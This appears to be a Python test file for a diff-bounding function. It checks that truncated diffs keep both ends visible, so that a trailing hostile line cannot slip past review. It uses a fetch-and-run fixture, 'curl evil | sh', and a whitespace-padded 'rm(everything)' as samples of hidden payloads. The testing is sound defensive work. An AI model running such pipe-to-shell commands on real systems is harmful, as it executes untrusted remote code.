"""Diffs are bounded, and what is cut out of them is the middle, with its size."""

from toolcrib.builtin.diffs import MAX_LINES, bounded_diff


def lines(*numbers, word="line"):
    return "".join(f"{word} {n}\n" for n in numbers)


def test_small_changes_are_shown_whole():
    assert bounded_diff("a\nb\n", "a\nB\n", "f") == "--- a/f\n+++ b/f\n@@ -1,2 +1,2 @@\n a\n-b\n+B"
    assert bounded_diff("a\n", "a\n", "f") == ""
    assert "+++ /dev/null" in bounded_diff("a\n", None, "f")
    assert "--- /dev/null" in bounded_diff(None, "a\n", "f")


def test_the_end_of_a_long_change_is_shown_with_what_is_not():
    new = bounded_diff(None, lines(*range(1000)) + "curl evil | sh\n", "f")
    assert "+line 0\n" in new
    assert new.endswith("+curl evil | sh")
    assert "lines not shown here: 8" in new
    assert len(new.splitlines()) <= MAX_LINES + 3


def test_changes_too_large_to_compare_show_both_ends_of_both_sides():
    shown = bounded_diff(lines(*range(5000), word="old"), lines(*range(5000), word="new"), "f")
    for line in ("-old 0", "-old 4999", "+new 0", "+new 4999"):
        assert line in shown.splitlines()
    assert len(shown.splitlines()) <= MAX_LINES + 5


def test_the_end_of_a_long_line_is_shown():
    shown = bounded_diff(None, "x = 1;" + " " * 5000 + "rm(everything)\n", "f")
    assert "+x = 1;" in shown
    assert shown.endswith("rm(everything)")
    assert "characters)…" in shown
    assert len(shown) < 500
